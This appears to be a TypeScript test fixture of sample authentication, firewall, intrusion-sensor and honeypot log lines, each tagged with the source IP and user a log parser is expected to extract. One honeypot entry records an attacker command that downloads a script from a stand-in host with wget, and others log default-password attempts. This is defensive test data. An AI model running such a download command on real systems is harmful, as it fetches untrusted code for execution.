/** Ways in from outside: tunnels, remote desktops, shells, and the boxes at the edge that guard them. */
export const gates: Readonly<Record<string, string>> = {
  'tunnel, address first': String.raw`
203.0.113.11 :: Nov 12 04:01:01 gw openvpn[712]: 203.0.113.11:40112 TLS Auth Error: Auth Username/Password verification failed for peer
203.0.113.12 :: Nov 12 04:01:02 gw openvpn[712]: TLS Error: incoming packet authentication failed from [AF_INET]203.0.113.12:40113
203.0.113.13 :: Nov 12 04:01:03 gw ovpn-server[712]: 203.0.113.13:40114 VERIFY ERROR: depth=0, error=certificate has expired: CN=old-laptop
203.0.113.14 :: Nov 12 04:01:04 gw openvpn[712]: 203.0.113.14:40115 WARNING: Bad encapsulated packet length from peer (18245), which must be > 0 and <= 1627
- :: Nov 12 04:01:05 gw openvpn[712]: 198.51.100.4:40116 TLS: Initial packet from [AF_INET]198.51.100.4:40116, sid=ab12cd34 ef56ab78
- :: Nov 12 04:01:06 gw openvpn[712]: 198.51.100.4:40116 [amy] Peer Connection Initiated with [AF_INET]198.51.100.4:40116
- :: Nov 12 04:01:07 gw openvpn[712]: amy/198.51.100.4:40116 PUSH: Received control message: 'PUSH_REQUEST'
- :: Nov 12 04:01:08 gw openvpn[712]: amy/198.51.100.4:40116 [amy] Inactivity timeout (--ping-restart), restarting
- :: Nov 12 04:01:09 gw openvpn[712]: event_wait : Interrupted system call (code=4)`,
  'tunnel, key exchange': String.raw`
203.0.113.21 :: Nov 12 04:02:01 gw charon: 07[IKE] no IKE config found for 192.0.2.1...203.0.113.21, sending NO_PROPOSAL_CHOSEN
203.0.113.22 :: Nov 12 04:02:02 gw charon: 08[CFG] looking for peer configs matching 192.0.2.1[%any]...203.0.113.22[vpn] - no matching peer config found
203.0.113.23 :: Nov 12 04:02:03 gw pluto[812]: packet from 203.0.113.23:500: initial Main Mode message received but no connection has been authorized with policy PSK
203.0.113.24 :: Nov 12 04:02:04 gw charon: 09[IKE] EAP method EAP_MSCHAPV2 failed for peer 203.0.113.24
- :: Nov 12 04:02:05 gw charon: 10[NET] received packet: from 198.51.100.4[500] to 192.0.2.1[500] (464 bytes)
- :: Nov 12 04:02:06 gw charon: 10[IKE] authentication of 'amy' with EAP successful
- :: Nov 12 04:02:07 gw charon: 10[IKE] IKE_SA roadwarrior[7] established between 192.0.2.1[gw]...198.51.100.4[amy]
- :: Nov 12 04:02:08 gw charon: 11[IKE] sending DPD request to 198.51.100.4
- :: Nov 12 04:02:09 gw charon: 12[IKE] retransmit 3 of request with message ID 2 to 198.51.100.4`,
  'tunnel in a browser': String.raw`
203.0.113.31/amy :: date=2026-11-12 time=04:03:01 devname="fw1" logid="0101039426" type="event" subtype="vpn" level="alert" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" remip=203.0.113.31 user="amy" group="N/A" dst_host="N/A" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"
203.0.113.32/bob :: Nov 12 04:03:02 asa1 : %ASA-6-716039: Group <DfltGrpPolicy> User <bob> IP <203.0.113.32> Authentication: rejected, Session Type: WebVPN.
203.0.113.33/admin :: Nov 12 04:03:03 ocserv[812]: worker[admin]: 203.0.113.33 failed authentication attempt for user 'admin'
203.0.113.34/carol :: id=firewall time="2026-11-12 04:03:04" pri=5 fw=192.0.2.1 vpn=ic user=carol realm="Users" roles="" type=mgmt proto=auth src=203.0.113.34 dst= dstname= msg="AUT24327: Primary authentication failed for carol/LDAP from 203.0.113.34"
- :: date=2026-11-12 time=04:03:05 devname="fw1" type="event" subtype="vpn" level="information" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" remip=198.51.100.4 user="amy" msg="SSL tunnel established"
- :: Nov 12 04:03:06 ocserv[812]: worker[amy]: 198.51.100.4 suggesting DPD of 90 secs
- :: Nov 12 04:03:07 asa1 : %ASA-6-113012: AAA user authentication Successful : local database : user = amy
- :: Nov 12 04:03:08 asa1 : %ASA-4-113019: Group = x, Username = amy, IP = 198.51.100.4, Session disconnected. Session Type: SSL, Duration: 0h:30m:02s, Reason: User Requested`,
  'desktop, event records': String.raw`
203.0.113.41/administrator :: 2026-11-12 04:04:01 DC1 Security-Auditing: 4625 AUDIT_FAILURE An account failed to log on. TargetUserName=administrator TargetDomainName=CORP Status=0xc000006d SubStatus=0xc000006a LogonType=10 WorkstationName=KALI IpAddress=203.0.113.41 IpPort=0
203.0.113.42/guest :: {"@timestamp":"2026-11-12T04:04:02Z","winlog":{"event_id":4625,"channel":"Security","event_data":{"TargetUserName":"guest","IpAddress":"203.0.113.42","LogonType":"3","Status":"0xc000006d"}},"event":{"action":"logon-failed","outcome":"failure"},"host":{"name":"dc1"}}
203.0.113.43 :: 2026-11-12 04:04:03 RDG1 TerminalServices-Gateway: 201 The user "CORP\bob", on client computer "203.0.113.43", did not meet connection authorization policy requirements and was therefore not authorized to access the RD Gateway server.
203.0.113.44 :: 2026-11-12 04:04:04 DC1 Security-Auditing: 4771 Kerberos pre-authentication failed. TargetUserName=amy ServiceName=krbtgt/CORP IpAddress=::ffff:203.0.113.44 IpPort=51234 Status=0x18
- :: {"@timestamp":"2026-11-12T04:04:05Z","winlog":{"event_id":4624,"channel":"Security","event_data":{"TargetUserName":"amy","IpAddress":"198.51.100.4","LogonType":"10"}},"event":{"action":"logged-in","outcome":"success"},"host":{"name":"dc1"}}
- :: 2026-11-12 04:04:06 DC1 Security-Auditing: 4634 AUDIT_SUCCESS An account was logged off. TargetUserName=amy TargetDomainName=CORP LogonType=3
- :: 2026-11-12 04:04:07 DC1 Service-Control-Manager: 7000 The Print Spooler service failed to start due to the following error: The service did not respond in a timely fashion.`,
  'desktop, other protocols': String.raw`
203.0.113.51 :: [20261112-04:05:01] [ERROR] xrdp_sec: login failed for user root ip: 203.0.113.51 port: 40112
203.0.113.52 :: Nov 12 04:05:02 host xrdp-sesman[812]: [INFO ] AUTHFAIL: user=admin ip=::ffff:203.0.113.52 time=1762920302
203.0.113.53 :: Thu Nov 12 04:05:03 2026 Connections: blacklisted: 203.0.113.53::40113
203.0.113.54 :: 12/11/26 04:05:04 rfbAuthProcessClientMessage: password check failed, client 203.0.113.54
203.0.113.55 :: Nov 12 04:05:05 host x11vnc[813]: authentication failed from 203.0.113.55
203.0.113.56/amy :: 04:05:06.123 [http-nio-8080-exec-2] WARN  o.a.g.r.auth.AuthenticationService - Authentication attempt from [198.51.100.9, 203.0.113.56] for user "amy" failed.
- :: [20261112-04:05:07] [INFO ] connected client: 198.51.100.4 port 40114
- :: Thu Nov 12 04:05:08 2026 Connections: accepted: 198.51.100.4::40115
- :: 12/11/26 04:05:09 Client 198.51.100.4 gone
- :: Nov 12 04:05:10 host xrdp-sesman[812]: [INFO ] Successful login: user=amy display=10
- :: [20261112-04:05:11] [ERROR] xrdp_mm_connect: connecting to sesman on 127.0.0.1:3350 failed`,
  shells: String.raw`
203.0.113.61/root :: Nov 12 04:06:01 host telnetd[812]: login failed from 203.0.113.61, root
203.0.113.62 :: Nov 12 04:06:02 host in.telnetd[813]: refused connect from 203.0.113.62 (203.0.113.62)
203.0.113.63/admin :: Nov 12 04:06:03 host login[814]: FAILED LOGIN (2) on '/dev/pts/1' from '203.0.113.63' FOR 'admin', Authentication failure
203.0.113.64 :: Nov 12 04:06:04 host login[815]: ROOT LOGIN REFUSED FROM 203.0.113.64
203.0.113.65/pi :: 2026-11-12T04:06:05.000Z tinysshd[816]: auth: user pi: from 203.0.113.65: rejected
- :: Nov 12 04:06:06 host login[817]: LOGIN ON pts/1 BY amy FROM 198.51.100.4
- :: Nov 12 04:06:07 host telnetd[818]: ttloop: peer died: EOF
- :: Nov 12 04:06:08 host rshd[819]: Connection from 198.51.100.4 on legal port
- :: Nov 12 04:06:09 host su: amy to root on /dev/pts/1
- :: Nov 12 04:06:10 host crond[820]: (root) FAILED to open PAM security session (Module is unknown)`,
  'switch and router': String.raw`
203.0.113.71/admin :: Nov 12 04:07:01 sw1 812: Nov 12 04:07:00.123: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.71] [localport: 22] [Reason: Login Authentication Failed] at 04:07:00 UTC Thu Nov 12 2026
203.0.113.72 :: Nov 12 04:07:02 core1 %SSH-4-SSH2_UNEXPECTED_MSG: Unexpected message type has arrived. Terminating the connection from 203.0.113.72
203.0.113.73/root :: Nov 12 04:07:03 mx480 sshd[812]: SSHD_LOGIN_FAILED: Login failed for user 'root' from host '203.0.113.73'
203.0.113.74/admin :: Nov 12 2026 04:07:04 HUAWEI %%01SSH/4/SSH_FAIL(l)[12]:Failed to login through SSH. (IP=203.0.113.74, VpnInstanceName=, UserName=admin, Times=3, FailedReason=User password authentication failed)
203.0.113.75/admin :: Nov 12 04:07:05 rb1 system,error,critical login failure for user admin from 203.0.113.75 via telnet
203.0.113.76 :: Nov 12 04:07:06 sw2 AAA: TACACS+ authentication rejected, user admin, rem_addr 203.0.113.76, tty2
203.0.113.77 :: Nov 12 04:07:07 r3 %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.77(40112) -> 192.0.2.1(23), 1 packet
- :: Nov 12 04:07:08 sw1 813: Nov 12 04:07:08.123: %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: amy] [Source: 198.51.100.4] [localport: 22] at 04:07:08 UTC Thu Nov 12 2026
- :: Nov 12 04:07:09 sw1 814: %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/1, changed state to down
- :: Nov 12 04:07:10 r3 %BGP-5-ADJCHANGE: neighbor 198.51.100.30 Down BGP Notification sent
- :: Nov 12 04:07:11 r3 %BGP-3-NOTIFICATION: sent to neighbor 198.51.100.30 4/0 (hold time expired) 0 bytes
- :: Nov 12 04:07:12 rb1 system,info,account user amy logged out from 198.51.100.4 via winbox
- :: Nov 12 04:07:13 sw1 815: %SYS-5-CONFIG_I: Configured from console by amy on vty0 (198.51.100.4)
- :: Nov 12 04:07:14 r3 %OSPF-4-ERRRCV: Received invalid packet: mismatched area ID from backbone area from 198.51.100.31, GigabitEthernet0/2`,
  'firewall, comma separated': String.raw`
203.0.113.81 :: Nov 12 04:08:01 pf filterlog[812]: 5,,,1000000103,igb0,match,block,in,4,0x0,,244,54321,0,none,6,tcp,40,203.0.113.81,192.0.2.1,40112,23,0,S,12345,,1024,,
2001:db8:5::81 :: Nov 12 04:08:02 pf filterlog[812]: 5,,,1000000105,igb0,match,block,in,6,0x00,0x00000,58,TCP,6,40,2001:db8:5::81,2001:db8::1,40113,22,0,S,12345,,1024,,
203.0.113.82 :: Nov 12 04:08:03 fw PA-220: 1,2026/11/12 04:08:03,0123456,TRAFFIC,drop,2305,2026/11/12 04:08:03,203.0.113.82,192.0.2.1,0.0.0.0,0.0.0.0,deny-all,,,not-applicable,vsys1,untrust,trust,eth1,,Log,2026/11/12 04:08:03,0,1,40114,3389,0,0,0x0,tcp,deny,60,60,0,1
203.0.113.83 :: Nov 12 04:08:04 fw PA-220: 1,2026/11/12 04:08:04,0123456,THREAT,vulnerability,2305,2026/11/12 04:08:04,203.0.113.83,192.0.2.1,0.0.0.0,0.0.0.0,allow-web,,,web-browsing,vsys1,untrust,trust,eth1,eth2,Log,2026/11/12 04:08:04,81,1,40115,80,0,0,0x0,tcp,reset-both,"x.php",SQL Injection Attempt(30514),any,high,client-to-server
- :: Nov 12 04:08:05 pf filterlog[812]: 9,,,1000000104,igb1,match,pass,out,4,0x0,,64,54322,0,DF,6,tcp,60,198.51.100.4,192.0.2.1,40116,443,0,S,12346,,64240,,
- :: Nov 12 04:08:06 fw PA-220: 1,2026/11/12 04:08:06,0123456,TRAFFIC,end,2305,2026/11/12 04:08:06,198.51.100.4,192.0.2.1,0.0.0.0,0.0.0.0,allow-web,,,ssl,vsys1,untrust,trust,eth1,eth2,Log,2026/11/12 04:08:06,82,1,40117,443,0,0,0x1c,tcp,allow,4412,1200,3212,22`,
  'firewall, sentences and keys': String.raw`
203.0.113.91 :: Nov 12 04:09:01 asa1 : %ASA-4-106023: Deny tcp src outside:203.0.113.91/40112 dst inside:192.0.2.1/22 by access-group "outside_in" [0x0, 0x0]
203.0.113.92 :: Nov 12 04:09:02 asa1 : %ASA-2-106001: Inbound TCP connection denied from 203.0.113.92/40113 to 192.0.2.1/445 flags SYN on interface outside
203.0.113.93 :: Nov 12 04:09:03 srx RT_FLOW: RT_FLOW_SESSION_DENY: session denied 203.0.113.93/40114->192.0.2.1/3306 junos-mysql 6(0) default-deny untrust trust
203.0.113.94 :: Nov 12 04:09:04 gw kernel: [IPTABLES DROP] IN=eth0 OUT= MAC=aa:bb:cc:dd:ee:ff:11:22:33:44:55:66:08:00 SRC=203.0.113.94 DST=192.0.2.1 LEN=44 PROTO=TCP SPT=40115 DPT=5900 SYN
203.0.113.95 :: Nov 12 04:09:05 utm ulogd[812]: id="2001" severity="info" sys="SecureNet" sub="packetfilter" name="Packet dropped" action="drop" fwrule="60001" srcip="203.0.113.95" dstip="192.0.2.1" proto="6" srcport="40116" dstport="23"
203.0.113.96 :: Nov 12 04:09:06 gw kernel: nft-drop: IN=eth0 OUT= SRC=203.0.113.96 DST=192.0.2.1 PROTO=UDP SPT=5060 DPT=5060
203.0.113.97 :: CEF:0|Vendor|Firewall|6.1|deny|Connection blocked|5|src=203.0.113.97 spt=40117 dst=192.0.2.1 dpt=1433 proto=TCP act=blocked
- :: Nov 12 04:09:08 asa1 : %ASA-6-302013: Built inbound TCP connection 812 for outside:198.51.100.4/40118 (198.51.100.4/40118) to inside:192.0.2.1/443 (192.0.2.1/443)
- :: Nov 12 04:09:09 asa1 : %ASA-6-302014: Teardown TCP connection 812 for outside:198.51.100.4/40118 to inside:192.0.2.1/443 duration 0:00:02 bytes 812 TCP FINs
- :: Nov 12 04:09:10 srx RT_FLOW: RT_FLOW_SESSION_CREATE: session created 198.51.100.4/40119->192.0.2.1/443 junos-https 6 allow-web untrust trust 812
- :: CEF:0|Vendor|Firewall|6.1|allow|Connection allowed|2|src=198.51.100.4 spt=40120 dst=192.0.2.1 dpt=443 proto=TCP act=allowed
- :: Nov 12 04:09:12 gw kernel: ACCEPT IN=eth0 OUT=eth1 SRC=198.51.100.4 DST=192.0.2.1 PROTO=TCP SPT=40121 DPT=443 SYN`,
  'intrusion sensors': String.raw`
203.0.113.101 :: 11/12-04:10:01.123456  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] [Classification: Attempted Information Leak] [Priority: 2] {TCP} 203.0.113.101:40112 -> 192.0.2.1:22
203.0.113.102 :: {"timestamp":"2026-11-12T04:10:02.123456+0000","event_type":"alert","src_ip":"203.0.113.102","src_port":40113,"dest_ip":"192.0.2.1","dest_port":80,"proto":"TCP","alert":{"action":"allowed","signature_id":2019401,"signature":"ET WEB_SERVER Possible SQL Injection Attempt","category":"Web Application Attack","severity":1}}
203.0.113.103 :: Nov 12 04:10:03 host psad: scan detected (Nmap): 203.0.113.103 -> 192.0.2.1 tcp: [1-1024] flags: SYN tcp pkts: 900 DL: 4
203.0.113.104 :: Nov 12 04:10:04 host portsentry[812]: attackalert: Connect from host: 203.0.113.104/203.0.113.104 to TCP port: 143
- :: {"timestamp":"2026-11-12T04:10:05.123456+0000","event_type":"flow","src_ip":"198.51.100.4","src_port":40114,"dest_ip":"192.0.2.1","dest_port":443,"proto":"TCP","flow":{"pkts_toserver":9,"state":"closed","reason":"timeout"}}
- :: {"timestamp":"2026-11-12T04:10:06.123456+0000","event_type":"dns","src_ip":"198.51.100.4","src_port":40115,"dest_ip":"192.0.2.53","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"example.org","rrtype":"A"}}
- :: {"timestamp":"2026-11-12T04:10:07.123456+0000","event_type":"stats","stats":{"uptime":812,"decoder":{"pkts":4412,"invalid":0}}}
- :: Nov 12 04:10:08 host psad: imported valid icmp types and codes`,
  honeypots: String.raw`
203.0.113.111/root :: {"eventid":"cowrie.login.failed","username":"root","password":"123456","message":"login attempt [root/123456] failed","sensor":"pot1","timestamp":"2026-11-12T04:11:01.123Z","src_ip":"203.0.113.111","session":"ab12"}
203.0.113.112 :: {"eventid":"cowrie.command.input","input":"wget http://192.0.2.66/x.sh","message":"CMD: wget http://192.0.2.66/x.sh","sensor":"pot1","timestamp":"2026-11-12T04:11:02.123Z","src_ip":"203.0.113.112","session":"ab13"}
203.0.113.113 :: {"dst_host":"192.0.2.1","dst_port":23,"local_time":"2026-11-12 04:11:03.123","logdata":{"PASSWORD":"admin","USERNAME":"admin"},"logtype":6001,"node_id":"pot2","src_host":"203.0.113.113","src_port":40112}
- :: {"local_time":"2026-11-12 04:11:04.123","logdata":{"msg":{"logdata":"Added service from class CanaryFTP in fake"}},"logtype":1001,"node_id":"pot2","src_host":"","src_port":-1}`,
}
